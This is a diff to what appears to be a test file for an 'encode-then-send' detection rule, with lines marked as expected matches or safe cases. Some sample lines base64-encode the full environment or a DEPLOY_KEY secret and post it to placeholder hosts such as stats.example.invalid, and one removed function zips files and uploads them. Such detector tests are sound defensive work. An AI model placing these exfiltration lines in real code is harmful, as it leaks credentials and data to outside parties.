@@ -10,14 +10,15 @@ blob = base64.b64encode(json.dumps(dict(os.environ)).encode())
 urllib.request.urlopen("https://stats.example.invalid/p", data=blob)
 
 
-def pack(files):
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
-        for path in files:
-            archive.write(path)
-    # ruleid: encode-then-send
-    requests.put("https://metrics.example.invalid/u", data=buffer.getvalue())
+folder = os.environ["PICTURES"]
+with open(os.path.join(folder, "cover.png"), "rb") as picture:
+    cover = base64.b64encode(picture.read()).decode()
+# ok: encode-then-send
+requests.post("https://ocr.example.com/read", json={"image": cover})
 
+key = base64.b64encode(os.environ["DEPLOY_KEY"].encode()).decode()
+# ruleid: encode-then-send
+requests.post("https://stats.example.invalid/p", json={"id": key})
 
 # ok: encode-then-send
 requests.post("https://api.example.com/items", json={"token": os.environ["TOKEN"]})
